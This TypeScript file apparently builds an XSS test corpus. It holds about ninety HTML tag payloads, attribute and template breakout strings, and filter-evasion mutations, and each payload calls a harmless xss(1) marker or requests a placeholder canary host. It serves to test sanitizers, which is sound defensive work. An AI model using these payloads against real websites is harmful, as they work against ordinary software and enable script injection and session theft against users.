// XSS payloads. Each calls `xss()` or requests the canary host.

/** Not a real host; the browser test watches for requests to it. */
export const CANARY = 'canary.test'

const RUN = 'xss(1)'
const ASK = `//${CANARY}/`

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script src=${ASK}a.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror=${RUN}>`,
  `<img src=x onerror\u000b=${RUN}>`,
  `<img src="x\`onerror=${RUN}">`,
  `<img src=${ASK}a.png>`,
  `<img srcset="${ASK}a.png 1x">`,
  `<img """><script>${RUN}</script>">`,
  `<image src=x onerror=${RUN}>`,
  `<picture><source srcset=${ASK}a.png><img></picture>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src=${ASK}>`,
  `<frameset onload=${RUN}>`,
  `<object data=${ASK}a.swf>`,
  `<embed src=${ASK}a>`,
  `<body onload=${RUN}>`,
  `<body background=${ASK}a.png>`,
  `<video src=x onerror=${RUN}>`,
  `<video poster=${ASK}a.png>`,
  `<video><source onerror=${RUN}></video>`,
  `<track src=${ASK}a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<div style="background:url(${ASK}a.png)">x</div>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>`,
  `<div onpointerrawupdate=${RUN} style="position:fixed;inset:0">`,
  `<style>@import '${ASK}a.css'</style>`,
  `<style>*{background:url(${ASK}a.png)}</style>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=${ASK}a.css>`,
  `<link rel=preload as=image href=${ASK}a.png>`,
  `<link rel=prefetch href=${ASK}a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=http:${ASK}">`,
  `<base href=${ASK}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java\nscript:${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="&#x6A;&#x61;vascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a ping=${ASK} href=#>x</a>`,
  `<b onmouseover=${RUN}>x</b>`,
  `<b style="background:url(${ASK}a.png)">x</b>`,
  `<b\nid=x tabindex=1 autofocus onfocus=${RUN}>x</b>`,
  `<b><script>${RUN}</script></b>`,
  `<br onload=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<table><td background=${ASK}a.png>`,
  `<xss style="display:block" onclick=${RUN}>x</xss>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
]

/** For attributes, addresses, scripts and styles. */
const BREAKOUTS = [
  ...[`"><script>${RUN}</script>`, `" onmouseover=${RUN} x="`, `' autofocus onfocus=${RUN} '`],
  ...[`'-${RUN}-'`, `"-${RUN}-"`, `\\"-${RUN}//`, `\\';${RUN}//`, `';${RUN};'`, `\${${RUN}}`, `#{${RUN}}`],
  ...[`{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `*/${RUN}/*`, `);${RUN};(`],
  ...[`\u2028${RUN}//`, ` javascript:${RUN}`, `JAVASCRIPT:${RUN}`, `java%0ascript:${RUN}`],
  ...[`data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=`, `&lt;script&gt;${RUN}&lt;/script&gt;`],
  ...[`&#60;script&#62;${RUN}&#60;/script&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`],
  ...[`\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${RUN}\\x3e`],
  ...[`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `</p><img src=x onerror=${RUN}>`],
  ...[`__proto__`, `constructor`, `url(${ASK}a.png)`, `expression(${RUN})`, `javascript:${RUN}`],
]

/** Evasions of keyword filters. */
const MUTATIONS: ((text: string) => string)[] = [
  (text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replace(/=/, ' =\t'),
  (text) => `<b>${text}</b>`,
  (text) => `x">${text}`,
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
]

/** Every tag unchanged or mutated in turn, and every attribute escape. */
export const XSS_CORPUS: readonly string[] = [
  ...new Set([
    ...TAGS,
    ...BREAKOUTS,
    ...TAGS.flatMap((tag, place) => [
      (MUTATIONS[place % MUTATIONS.length] ?? String)(tag),
      (MUTATIONS[(place + 2) % MUTATIONS.length] ?? String)(tag),
    ]),
  ]),
]

/** The reference of an order with hostile texts; the first ones have the whole corpus as instructions. */
export const referenceAt = (place: number) =>
  `XSS0-0000-0000-0000-0000-0000-${String(place).padStart(4, '0')}`
